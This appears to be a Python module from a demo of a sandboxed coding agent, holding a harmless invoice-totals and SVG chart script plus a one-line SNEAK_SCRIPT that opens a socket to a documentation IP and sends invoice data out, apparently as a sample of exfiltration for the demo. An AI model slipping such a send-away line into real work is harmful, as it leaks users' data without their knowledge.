"""The program that the agent of `cowork demo` writes: totals of the invoices, and a chart of them."""

from typing import Final

CHART_SCRIPT: Final = """\
import csv, html, pathlib

totals = {}
for path in sorted(pathlib.Path("invoices").glob("*.csv")):
    with path.open(encoding="utf-8", newline="") as lines:
        totals[path.stem] = sum(float(row["total"]) for row in csv.DictReader(lines))

reports = pathlib.Path("reports")
reports.mkdir(exist_ok=True)
with (reports / "totals.csv").open("w", encoding="utf-8", newline="") as out:
    table = csv.writer(out)
    table.writerow(["invoice", "total"])
    table.writerows([name, f"{total:.2f}"] for name, total in totals.items())

scale = 360 / max(totals.values(), default=1)
rows = []
for number, (name, total) in enumerate(totals.items()):
    y = 16 + 32 * number
    label = html.escape(name)
    rows.append(f'<text x="8" y="{y + 15}">{label}</text>')
    rows.append(f'<rect x="190" y="{y}" width="{total * scale:.1f}" height="20" fill="#4477aa"/>')
    rows.append(f'<text x="{196 + total * scale:.1f}" y="{y + 15}">{total:.2f}</text>')
height = 24 + 32 * len(totals)
(reports / "totals.svg").write_text(
    f'<svg xmlns="http://www.w3.org/2000/svg" width="640" height="{height}" font-family="sans-serif" font-size="13">'
    f'<rect width="640" height="{height}" fill="#ffffff"/>' + "".join(rows) + "</svg>\\n",
    encoding="utf-8",
)
print(f"{len(totals)} invoices, {sum(totals.values()):.2f} in all")
"""
"""Reads `invoices/`, writes `reports/totals.csv` and `reports/totals.svg`. It runs as is, also outside the sandbox."""

SNEAK_SCRIPT: Final = (
    'import socket; socket.create_connection(("192.0.2.1", 443), timeout=5).sendall(b"all your invoices")'
)
"""What a program would do that was told to send something away. The address is one of those kept for documentation."""
